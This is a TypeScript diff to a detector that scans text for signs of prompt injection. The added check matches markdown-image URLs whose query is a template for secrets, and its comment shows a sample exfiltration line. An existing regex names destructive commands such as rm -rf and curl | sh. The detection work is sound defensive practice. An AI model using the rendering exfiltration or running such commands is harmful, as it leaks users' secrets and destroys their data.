@@ -9,10 +9,13 @@ export interface Carriers {
   readonly hidden: boolean;
   /** A tag or label claiming the voice of the system, an admin or the model's own turn. */
   readonly authorityMarkup: boolean;
+  /** A URL whose query is a template to fill (`![x](https://h/p.png?d={secrets})`): exfiltration by rendering. */
+  readonly urlTemplate: boolean;
   /** A shell or SQL command that destroys or runs code from afar (rm -rf, chmod 777, curl | sh). */
   readonly dangerousCommand: boolean;
 }
 
+const URL_TEMPLATE = /https?:\/\/[^\s)"']{1,200}?[?&][a-z0-9_]{1,30}=(?:\{|\$\{|%7b|<[a-z]|\[[a-z])/;
 const DANGEROUS = /\brm\s-[a-z]{0,3}r[a-z]{0,3}\s{1,3}[~/*$]|\bchmod\s(?:-r\s)?777\b|\bdrop\s(?:table|database)\b|\|\s{0,2}(?:ba|z)?sh\b|\bmkfs\b|--force\b|\bgit\spush\s-f\b/;
 
 const HIDDEN =
@@ -26,6 +29,7 @@ export function findCarriers(lower: string): Carriers {
   return {
     hidden: maybeTag && HIDDEN.test(lower),
     authorityMarkup: maybeTag && AUTHORITY.test(lower),
+    urlTemplate: lower.includes('://') && URL_TEMPLATE.test(lower),
     dangerousCommand: (lower.includes('rm') || lower.includes('77') || lower.includes('drop') || lower.includes('sh') || lower.includes('force') || lower.includes('push')) && DANGEROUS.test(lower),
   };
 }
